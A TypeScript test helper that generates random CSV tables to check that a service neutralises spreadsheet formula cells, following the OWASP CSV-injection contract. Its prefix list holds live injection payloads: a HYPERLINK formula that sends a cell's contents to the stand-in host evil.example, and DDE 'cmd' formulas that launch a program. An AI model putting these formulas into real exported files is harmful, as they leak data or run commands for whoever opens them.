/**
 * CSV inputs and what the service must make of them. Pure: tables are generated and serialized here,
 * and the expected result CSV (every cell kept, formula cells neutralised, one line added) is
 * computed from the contract, not from the app's code.
 */
import fc from 'fast-check';
import { stringify } from 'csv-stringify/sync';

export interface CsvTableInput {
  readonly header: readonly string[];
  readonly rows: readonly (readonly string[])[];
  readonly bom: boolean;
  readonly crlf: boolean;
  readonly quoteAll: boolean;
}

/** Spreadsheet programs run a cell starting with one of these as a formula (OWASP CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** The result cell the contract asks for: a formula cell gets a leading `'`, others stay as they are. */
export function expectedResultCell(cell: string): string {
  return FORMULA_START.test(cell) ? `'${cell}` : cell;
}

const FORMULA_PREFIXES = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
];

/** A cell: plain text, CSV syntax (quotes, commas, line breaks), or a formula. Never a leading BOM. */
export function cellArbitrary(): fc.Arbitrary<string> {
  return fc
    .oneof(
      { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
      {
        weight: 2,
        arbitrary: fc
          .array(fc.constantFrom('"', ',', '\n', '\r\n', ' ', 'a', ';', "'", '""'), { maxLength: 6 })
          .map((p) => p.join('')),
      },
      {
        weight: 2,
        arbitrary: fc.tuple(fc.constantFrom(...FORMULA_PREFIXES), fc.string({ maxLength: 8 })).map(([p, s]) => p + s),
      },
    )
    .filter((cell) => !cell.startsWith('\uFEFF'));
}

export function tableArbitrary(maxRows = 12): fc.Arbitrary<CsvTableInput> {
  return fc.integer({ min: 2, max: 5 }).chain((columns) =>
    fc.record({
      header: fc.array(cellArbitrary(), { minLength: columns, maxLength: columns }),
      rows: fc.array(fc.array(cellArbitrary(), { minLength: columns, maxLength: columns }), {
        minLength: 1,
        maxLength: maxRows,
      }),
      bom: fc.boolean(),
      crlf: fc.boolean(),
      quoteAll: fc.boolean(),
    }),
  );
}

/** Serializes records; answers the text and the 1-based line on which each record starts. */
export function serialize(
  input: Pick<CsvTableInput, 'bom' | 'crlf' | 'quoteAll'>,
  records: readonly (readonly string[])[],
): { text: string; startLines: number[] } {
  const startLines: number[] = [];
  let text = input.bom ? '\uFEFF' : '';
  let line = 1;
  for (const record of records) {
    startLines.push(line);
    // A lone CR is quoted too: csv-stringify leaves it bare with CRLF records, and a bare CR is a
    // line break to every reader.
    const chunk = stringify([record], {
      record_delimiter: input.crlf ? 'windows' : 'unix',
      quoted: input.quoteAll,
      quoted_match: /[\r\n]/,
    });
    text += chunk;
    line += countLineBreaks(chunk);
  }
  return { text, startLines };
}

/** Line breaks as editors count them: CRLF, LF, or a lone CR (also inside a quoted cell). */
export function countLineBreaks(text: string): number {
  return (text.match(/\r\n|\r|\n/g) ?? []).length;
}

/** The whole result CSV the contract asks for, record by record (without the generated line). */
export function expectedResultRecords(table: CsvTableInput): string[][] {
  return [table.header, ...table.rows].map((record) => record.map(expectedResultCell));
}
